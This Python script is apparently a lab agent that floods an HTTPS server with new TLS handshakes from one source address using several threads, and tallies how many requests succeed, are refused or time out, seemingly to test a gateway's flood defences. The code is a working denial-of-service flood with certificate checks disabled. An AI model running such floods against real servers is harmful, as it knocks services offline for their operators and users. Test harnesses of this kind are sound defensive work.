"""HTTPS requests as fast as a few threads can open connections, all from one address.

A lab agent (agent.py) in the attacker's namespace; its spec:

    {"host": "192.0.2.1", "port": 443, "source": "198.51.100.7", "path": "/", "threads": 8, "seconds": 5}

Each thread opens a new TLS connection per request (a flood of handshakes, what costs a TLS server most)
and waits at most 1 s for each step. Outcome: {"attempts", "ok", "refused", "timeouts", "other"}:
the statuses nginx answered are "ok" (200) or "other"; connections refused or reset by the gateway are
"refused"; a SYN dropped on the way is a "timeout".
"""
import http.client
import socket
import ssl
import threading
import time

import agent


def main():
    spec = agent.start()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    deadline = time.monotonic() + float(spec["seconds"])
    counts = {"attempts": 0, "ok": 0, "refused": 0, "timeouts": 0, "other": 0}
    lock = threading.Lock()

    def worker():
        while time.monotonic() < deadline:
            outcome = "other"
            try:
                connection = http.client.HTTPSConnection(spec["host"], spec["port"], context=context,
                                                         timeout=min(1, max(0.05, deadline - time.monotonic())),
                                                         source_address=(spec["source"], 0))
                connection.request("GET", spec["path"], headers={"Host": "api.example.com"})
                response = connection.getresponse()
                response.read()
                outcome = "ok" if response.status == 200 else "other"
                connection.close()
            except (ConnectionRefusedError, ConnectionResetError):
                outcome = "refused"
            except (socket.timeout, TimeoutError):
                outcome = "timeouts"
            except Exception:
                outcome = "other"
            with lock:
                counts["attempts"] += 1
                counts[outcome] += 1

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(int(spec["threads"]))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0, deadline - time.monotonic()) + 2)
    with lock:
        agent.finish(dict(counts))


if __name__ == "__main__":
    main()
